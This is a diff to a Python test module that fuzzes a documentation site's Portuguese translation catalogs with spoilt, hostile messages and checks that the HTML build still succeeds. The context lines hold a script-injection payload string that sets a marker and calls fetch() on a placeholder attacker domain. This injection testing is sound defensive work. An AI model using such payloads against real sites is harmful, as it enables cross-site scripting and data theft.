@@ -16,7 +16,7 @@ from tests.browser.conftest import new_page
 from tests.check.test_fuzz import PIECES
 from tests.conftest import run_in
 
-TEXTS = 4000 if os.environ.get("PROVE") else 120
+TEXTS = 2000 if os.environ.get("PROVE") else 120
 SOURCE = "Bread number {number} needs **flour** and [time](https://example.org/b), as *bakers* say."
 TRANSLATED = "O pão {number} precisa de **farinha** e [tempo](https://example.org/b), como dizem os *padeiros*."
 RUN = "document.title=window.hostile=1;fetch('https://evil.example/')"
@@ -58,7 +58,7 @@ def hostile(tiny: Path) -> Path:
     index = tiny / "docs/index.md"
     index.write_text(index.read_text(encoding="utf-8").replace("\ndough\n", "\ndough\nloaves\n"), encoding="utf-8")
     assert 0 == run_in(tiny, "catalogs", ONLY="pt").returncode
-    folder = tiny / "locales/pt/LC_MESSAGES"
+    folder, changed = tiny / "locales/pt/LC_MESSAGES", 0
     for path in folder.glob("*.po"):
         catalog = read_catalog(path)
         is_label = path.stem in ("interface", "sphinx")
@@ -69,7 +69,9 @@ def hostile(tiny: Path) -> Path:
             if source and isinstance(good, str):
                 message.string = spoilt(source, good, chance, is_label)
                 message.flags.discard("fuzzy")
+                changed += message.string != good
         dump_catalog(path, catalog)
+    assert changed > 0.9 * TEXTS  # So many pass the checks; the rest is refused.
     done = run_in(tiny, "html")
     assert 0 == done.returncode, done.stderr[-3000:]
     return tiny / "build/site"
